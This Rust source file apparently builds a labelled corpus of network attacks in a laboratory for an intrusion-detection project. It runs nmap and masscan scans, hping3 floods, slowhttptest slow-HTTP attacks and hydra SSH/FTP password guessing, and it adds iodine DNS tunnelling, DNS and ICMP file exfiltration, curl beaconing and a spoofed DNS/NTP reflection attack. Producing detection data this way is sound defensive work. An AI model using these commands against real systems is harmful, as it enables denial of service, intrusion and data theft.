//! The attacks of the corpus, by real attack tools.

use std::net::IpAddr;
use std::path::Path;
use std::process::Output;
use std::thread;
use std::time::Duration;

use anyhow::{Context, Result, ensure};
use rand::Rng;
use rand_xoshiro::Xoshiro256PlusPlus;

use super::files::{ACCOUNT, Files};
use super::part::{Equipment, Split};
use super::rules::Trace;
use super::servers::{self, AMPLE, DROP, NTP, TUNNEL};
use super::site::{FARM, Site};
use crate::frames::{Frame, Ipv4, Ports};
use crate::lab::{Host, Interface, IpVersion, wait_until};
use crate::process::Process;
use crate::traffic::dns::{self, LONGEST_LABEL, QueryType};
use crate::traffic::peers::Exchange;
use crate::traffic::raw::{FrameSender, Rate};

/// Longest time for a tool.
const LIMIT: Duration = Duration::from_secs(45);

/// The hosts and settings of an attack.
pub(super) struct Scene<'a> {
    pub(super) part: Split,
    pub(super) site: &'a Site,
    pub(super) files: &'a Files,
    /// A host without any traffic before.
    pub(super) attacker: &'a Interface,
    /// The far end of a tunnel.
    pub(super) far: &'a Interface,
    /// The host that receives data hidden in DNS names.
    pub(super) sink: &'a Interface,
    pub(super) random: Xoshiro256PlusPlus,
}

/// An attack of the corpus.
#[derive(Debug, Clone, Copy)]
pub struct Attack {
    /// The label of its flows.
    pub class: &'static str,
    /// The tool that runs it, and how, in a few words.
    pub tool: &'static str,
    /// The tools that it needs.
    pub equipment: Equipment,
    /// The smallest number of packets of a successful attack.
    pub least: u64,
    /// The acceptable kinds of its incident.
    pub kinds: &'static [&'static str],
    launch: Launch,
}

impl Attack {
    /// The attack by flowml's own code, because no program of Debian does it.
    const fn by_us(self) -> Self {
        Self { equipment: Equipment::Laboratory, ..self }
    }

    /// Runs it to its end. Returns the traces by which its flows are recognised.
    pub(super) fn launch(&self, scene: &mut Scene<'_>) -> Result<Vec<Trace>> {
        (self.launch)(scene).with_context(|| format!("the attack {} ({})", self.class, self.tool))
    }
}

type Launch = fn(&mut Scene<'_>) -> Result<Vec<Trace>>;

/// Every class of attack.
pub const ATTACKS: &[Attack] = &[
    attack("syn_scan", "nmap -sS", 1000, PORTS, syn_scan),
    attack("connect_scan", "nmap -sT", 800, PORTS, connect_scan),
    attack("stealth_scan", "nmap -sF -sX -sN", 800, PORTS, stealth_scan),
    attack("udp_scan", "nmap -sU", 200, PORTS, udp_scan),
    attack("horizontal_scan", "nmap -sS, many hosts", 500, HOSTS, horizontal_scan),
    attack("masscan", "masscan", 2000, &["port_scan", "host_scan"], masscan),
    attack("syn_flood", "hping3 -S --rand-source", 5000, &["syn_flood"], syn_flood),
    attack("udp_flood", "hping3 --udp", 5000, &["udp_flood"], udp_flood),
    attack("icmp_flood", "hping3 --icmp", 5000, &["icmp_flood"], icmp_flood),
    attack("slow_http", "slowhttptest -H", 500, SLOW, slow_http),
    attack("slow_read", "slowhttptest -X", 500, SLOW, slow_read),
    attack("brute_force_ssh", "hydra ssh", 500, GUESSES, brute_force_ssh),
    attack("brute_force_ftp", "hydra ftp", 200, GUESSES, brute_force_ftp),
    attack("dns_tunnel", "iodine", 300, TUNNELS, dns_tunnel),
    attack("dns_exfiltration", "a file in names", 100, TUNNELS, dns_exfiltration).by_us(),
    attack("icmp_exfiltration", "hping3 --icmp --file", 100, TUNNELS, icmp_exfiltration),
    attack("beacon", "curl, again and again", 80, &["beacon"], beacon),
    attack("reflection", "questions in another's name", 500, &["reflection"], reflection).by_us(),
];

/// The kinds of incidents (docs/DETECTION.md).
const PORTS: &[&str] = &["port_scan"];
const HOSTS: &[&str] = &["host_scan"];
const GUESSES: &[&str] = &["brute_force"];
const TUNNELS: &[&str] = &["tunnel"];
const SLOW: &[&str] = &["slow_connections"];

/// An attack by a program of Debian.
const fn attack(
    class: &'static str,
    tool: &'static str,
    least: u64,
    kinds: &'static [&'static str],
    launch: Launch,
) -> Attack {
    Attack { class, tool, equipment: Equipment::Corpus, least, kinds, launch }
}

fn syn_scan(scene: &mut Scene<'_>) -> Result<Vec<Trace>> {
    scene.scan("-sS", ["-p 1-2000", "--top-ports 1500 -T4"], 300)
}

fn connect_scan(scene: &mut Scene<'_>) -> Result<Vec<Trace>> {
    scene.scan("-sT", ["-p 1-1200", "-p 7000-8200"], 200)
}

fn stealth_scan(scene: &mut Scene<'_>) -> Result<Vec<Trace>> {
    let ports = ["-p 1-500", "--top-ports 400"];
    scene.scan("-sF", ports, 150)?;
    scene.scan("-sX", ports, 150)?;
    scene.scan("-sN", ports, 150)
}

/// The kernel sends few of these ICMP errors a second (icmp_ratelimit, ip-sysctl.rst), for which nmap would wait.
fn udp_scan(scene: &mut Scene<'_>) -> Result<Vec<Trace>> {
    scene.scan("-sU --min-rate 60", ["-p 1-400", "--top-ports 300"], 80)
}

fn horizontal_scan(scene: &mut Scene<'_>) -> Result<Vec<Trace>> {
    let targets = scene.part.choose("-p 445 10.80.0.0/22", "-p 22,3389 10.80.64.0/23");
    let rate = scene.vary(150);
    let nmap = format!("nmap -n -Pn -sS --max-retries 1 --min-rate 60 --max-rate {rate} {targets}");
    scene.run(&scene.attacker.host, &nmap)?;
    Ok(vec![scene.farm()])
}

fn masscan(scene: &mut Scene<'_>) -> Result<Vec<Trace>> {
    let targets = scene.part.choose("-p80,443,8080 10.80.128.0/22", "-p0-4000 10.80.192.1");
    let (rate, attacker) = (scene.vary(700), scene.attacker);
    let router = scene.site.server.mac.to_string().replace(':', "-");
    let masscan = format!(
        "masscan {targets} --rate {rate} --wait 1 --seed {seed} --interface {name} --adapter-ip {v4} \
         --router-mac {router}",
        seed = scene.random.gen_range(1..1_000_000),
        name = attacker.name,
        v4 = attacker.v4
    );
    let tool = attacker.host.spawn(words(&masscan))?;
    // The tool checks whether to end only when a frame arrives. These frames do not reach the server.
    let poke = format!("ping -n -q -c 1 -W 1 {}", attacker.v4);
    let over = || {
        thread::sleep(Duration::from_millis(500));
        scene.run(&scene.far.host, &poke)?;
        Ok(!tool.is_running()?)
    };
    wait_until(LIMIT, over)?;
    let output = tool.wait(LIMIT)?;
    ensure!(output.status.success(), "{masscan} failed ({})", message(&output));
    Ok(vec![scene.farm()])
}

fn syn_flood(scene: &mut Scene<'_>) -> Result<Vec<Trace>> {
    let port = scene.part.choose(80, 443);
    scene.flood(&format!("-S -p {port} --rand-source"), 2000)?;
    let victim = &scene.site.server;
    // The /24 of the site, by the address plan of the laboratory.
    Ok(vec![Trace::FromAnybodyBut { known: format!("{}/24", victim.v4), victim: victim.v4.into(), port }])
}

fn udp_flood(scene: &mut Scene<'_>) -> Result<Vec<Trace>> {
    let ports = scene.part.choose("-p 9000", "-p ++10000");
    let length = scene.vary(scene.part.choose(512, 1000));
    scene.flood(&format!("--udp {ports} -d {length}"), 2000)
}

fn icmp_flood(scene: &mut Scene<'_>) -> Result<Vec<Trace>> {
    let length = scene.vary(scene.part.choose(56, 600));
    scene.flood(&format!("--icmp -d {length}"), 1500)
}

/// HTTP requests whose headers never end.
fn slow_http(scene: &mut Scene<'_>) -> Result<Vec<Trace>> {
    let pace = scene.part.choose("-i 1 -x 12", "-i 2 -x 30");
    scene.slow(&format!("-H {pace}"), "http", "", 150)
}

/// HTTP responses that are read very slowly.
fn slow_read(scene: &mut Scene<'_>) -> Result<Vec<Trace>> {
    let pace = scene.part.choose("-w 10 -y 40 -n 1 -z 16 -k 2", "-w 200 -y 500 -n 2 -z 64 -k 3");
    scene.slow(&format!("-X {pace}"), "http", "long", 100)
}

/// Password guessing in several rounds, as an attacker does it to avoid a lock-out.
fn brute_force_ssh(scene: &mut Scene<'_>) -> Result<Vec<Trace>> {
    let (user, tasks, tries) = scene.part.choose(("root", 4, 8), (ACCOUNT, 6, 18));
    let rounds = scene.vary(10);
    (0..rounds).try_for_each(|_| scene.guess("ssh", user, tasks, tries))?;
    Ok(scene.whole())
}

fn brute_force_ftp(scene: &mut Scene<'_>) -> Result<Vec<Trace>> {
    let (user, tasks) = scene.part.choose((ACCOUNT, 12), ("admin", 16));
    let tries = scene.vary(30);
    scene.guess("ftp", user, tasks, tries)?;
    Ok(scene.whole())
}

/// A tunnel in DNS queries and answers, which the server's resolver forwards to the far end.
fn dns_tunnel(scene: &mut Scene<'_>) -> Result<Vec<Trace>> {
    ensure!(
        Path::new("/dev/net/tun").exists(),
        "there is no /dev/net/tun, which both ends of the tunnel need: load the module tun"
    );
    let (attacker, server) = (scene.attacker, &scene.site.server);
    let (inner, options) = scene.part.choose(("10.99.1.1", "-T NULL"), ("10.99.2.1", "-T TXT -m 600"));
    let (iodine, iodined) = (servers::program("iodine"), servers::program("iodined"));
    let secret = format!("s{}", scene.random.r#gen::<u32>());
    let _far_end =
        scene.far.host.spawn(words(&format!("{iodined} -f -c -P {secret} -l {} {inner} {TUNNEL}", scene.far.v4)))?;
    let client = format!("{iodine} -f -r {options} -P {secret} {} {TUNNEL}", server.v4);
    let near_end = attacker.host.spawn(words(&client))?;
    let up = || {
        ensure!(near_end.is_running()?, "it has ended");
        Ok(near_end.stderr().text().contains("Connection setup complete"))
    };
    wait_until(LIMIT, up).with_context(|| format!("messages of iodine: {}", near_end.stderr().text()))?;
    // iodine configures its interface by ifconfig. This command fails if the interface is missing.
    attacker.host.run_ok(["ifconfig", "dns0"])?;
    let count = scene.vary(150);
    let size = scene.vary(scene.part.choose(300, 600));
    scene.run(&attacker.host, &format!("ping -n -q -i 0.04 -W 2 -c {count} -s {size} {inner}"))?;
    Ok(vec![Trace::between(attacker.v4, server.v4), Trace::between(server.v4, scene.far.v4)])
}

/// A file in DNS names, a few dozen bytes in each, by way of the server's resolver.
fn dns_exfiltration(scene: &mut Scene<'_>) -> Result<Vec<Trace>> {
    let names = format!("--address=/{DROP}/192.0.2.7");
    let _far_end = servers::names(scene.sink, &[names])?;
    let (attacker, server) = (scene.attacker, scene.site.server.socket(IpVersion::V4, 53));
    let (labels, length) = scene.part.choose((2, 50), (3, LONGEST_LABEL));
    let (count, rate) = (scene.vary(120), scene.vary(scene.part.choose(25, 12)));
    for n in 0..count {
        const BASE32: &[u8; 32] = b"abcdefghijklmnopqrstuvwxyz234567";
        let random = &mut scene.random;
        let mut chunk = || (0..length).map(|_| char::from(BASE32[random.gen_range(0..32)])).collect::<String>();
        let data = (0..labels).map(|_| chunk()).collect::<Vec<_>>().join(".");
        let (id, name) = (scene.random.r#gen(), format!("{n}.{data}.{DROP}"));
        attacker.host.enter(|| dns::ask_from_here(server, id, &name, QueryType::A))??;
        thread::sleep(Duration::from_secs(1) / rate);
    }
    Ok(vec![Trace::between(attacker.v4, server.ip()), Trace::between(server.ip(), scene.sink.v4)])
}

/// The server sends a file in ICMP echo requests.
fn icmp_exfiltration(scene: &mut Scene<'_>) -> Result<Vec<Trace>> {
    let (server, far) = (&scene.site.server, scene.attacker);
    let (length, count) = (scene.vary(scene.part.choose(1200, 700)), scene.vary(200));
    let pause_us = 1_000_000 / scene.vary(scene.part.choose(40, 25));
    let file = scene.files.path("secret");
    std::fs::write(&file, (0..length * count).map(|_| scene.random.r#gen()).collect::<Vec<u8>>())?;
    let hping = format!("hping3 --icmp -q -d {length} -E {} -c {count} -i u{pause_us} {}", file.display(), far.v4);
    scene.run(&server.host, &hping)?;
    Ok(vec![Trace::between(server.v4, far.v4)])
}

/// The server connects to an address that no other host uses, at regular intervals.
fn beacon(scene: &mut Scene<'_>) -> Result<Vec<Trace>> {
    let (server, far) = (&scene.site.server, scene.attacker);
    let _far_end = servers::web(far, scene.files)?;
    let scheme = scene.part.choose("https", "http");
    let (period_ms, count) = (f64::from(scene.vary(scene.part.choose(1000, 700))), 14);
    for _ in 0..count {
        let jitter = scene.random.gen_range(0.95..1.05);
        scene.run(
            &server.host,
            &format!("curl -q --silent --insecure --fail --max-time 5 {scheme}://{}/health", far.v4),
        )?;
        thread::sleep(Duration::from_secs_f64(period_ms * jitter / 1000.0));
    }
    Ok(vec![Trace::between(server.v4, far.v4)])
}

/// An attacker sends requests with the server's address as their source, and other hosts answer to the server: DNS in
/// both parts, and NTP in one.
fn reflection(scene: &mut Scene<'_>) -> Result<Vec<Trace>> {
    let server = &scene.site.server;
    let (rate, seconds) = (scene.vary(scene.part.choose(250, 400)), 5);
    let clock = Exchange { request: 48, response: 468 };
    let clock = clock.opening(clock.request as usize)?;
    let mut frames = Vec::new();
    for n in 0..rate * seconds {
        let responder = &scene.site.responders[n as usize % scene.site.responders.len()];
        let by_name = scene.part == Split::Train || n % 2 == 0;
        let (port, question) = if by_name {
            (53, dns::question(scene.random.r#gen(), AMPLE, QueryType::Txt)?)
        } else {
            (NTP, clock.clone())
        };
        let header = Ipv4 { source: server.v4, destination: responder.v4, ..Ipv4::default() };
        let ports = Ports { source: scene.random.gen_range(1024..=u16::MAX), destination: port };
        let frame = Frame::between(scene.attacker.mac, responder.mac).ipv4(&header).udp(ports);
        frames.push(frame.payload(&question).finish());
    }
    FrameSender::open(scene.attacker)?.send(&frames, 1, Rate::PerSecond(rate))?;
    Ok(scene.site.responders.iter().map(|responder| Trace::between(server.v4, responder.v4)).collect())
}

impl Scene<'_> {
    /// About `number`: up to a fifth more or less.
    fn vary(&mut self, number: u32) -> u32 {
        let fifth = (number / 5).max(1);
        self.random.gen_range(number - fifth..=number + fifth)
    }

    fn victim(&self) -> IpAddr {
        self.site.server.v4.into()
    }

    /// The trace of all traffic between the attacker and the server.
    fn whole(&self) -> Vec<Trace> {
        vec![Trace::between(self.attacker.v4, self.victim())]
    }

    fn farm(&self) -> Trace {
        Trace::Between(self.attacker.v4.to_string(), FARM.to_owned())
    }

    /// A scan of the ports of the part for training, or of those of the part for tests.
    fn scan(&mut self, kind: &str, [train, test]: [&str; 2], rate: u32) -> Result<Vec<Trace>> {
        let (ports, rate, victim) = (self.part.choose(train, test), self.vary(rate), self.victim());
        let nmap = format!("nmap -n -Pn {kind} {ports} --max-retries 1 --max-rate {rate} {victim}");
        self.run(&self.attacker.host, &nmap)?;
        Ok(self.whole())
    }

    /// A flood of about five seconds.
    fn flood(&mut self, kind: &str, rate: u32) -> Result<Vec<Trace>> {
        let rate = self.vary(rate);
        let hping = format!("hping3 {kind} -q -c {} -i u{} {}", rate * 5, 1_000_000 / rate, self.victim());
        let output = self.attempt(&self.attacker.host, &hping)?;
        // Exit code 1: no answer arrived.
        ensure!(matches!(output.status.code(), Some(0 | 1)), "{hping} failed ({})", message(&output));
        Ok(self.whole())
    }

    /// Connections to a web server that are kept open for eight seconds.
    fn slow(&mut self, kind: &str, scheme: &str, path: &str, connections: u32) -> Result<Vec<Trace>> {
        let (connections, victim) = (self.vary(connections), self.victim());
        let url = format!("{scheme}://{victim}/{path}");
        self.run(&self.attacker.host, &format!("slowhttptest {kind} -c {connections} -r 60 -l 8 -p 3 -u {url}"))?;
        Ok(self.whole())
    }

    fn guess(&mut self, service: &str, user: &str, tasks: u32, tries: u32) -> Result<()> {
        let passwords = self.files.write_passwords(&mut self.random, tries)?;
        let victim = self.victim();
        let hydra = format!("hydra -I -l {user} -P {passwords} -t {tasks} {service}://{victim}");
        let output = self.attempt(&self.attacker.host, &hydra)?;
        // The exit code states whether a password was found, so it is not checked.
        let done = String::from_utf8_lossy(&output.stdout).contains("1 of 1 target completed, 0 valid password");
        ensure!(done, "{hydra} did not finish ({})", message(&output));
        Ok(())
    }

    /// Runs a tool that must succeed.
    fn run(&self, host: &Host, command: &str) -> Result<()> {
        let output = self.attempt(host, command)?;
        ensure!(output.status.success(), "{command} failed ({})", message(&output));
        Ok(())
    }

    /// Runs a tool in a folder where it may leave files.
    fn attempt(&self, host: &Host, command: &str) -> Result<Output> {
        let mut tool = host.command(words(command));
        tool.current_dir(self.files.path(""));
        Process::start(tool)?.wait(LIMIT)
    }
}

fn words(command: &str) -> impl Iterator<Item = &str> {
    command.split_whitespace()
}

fn message(output: &Output) -> String {
    let texts = [&output.stdout, &output.stderr].map(|text| String::from_utf8_lossy(text).trim().to_owned());
    format!("{}); its messages: {}", output.status, texts.join("\n"))
}
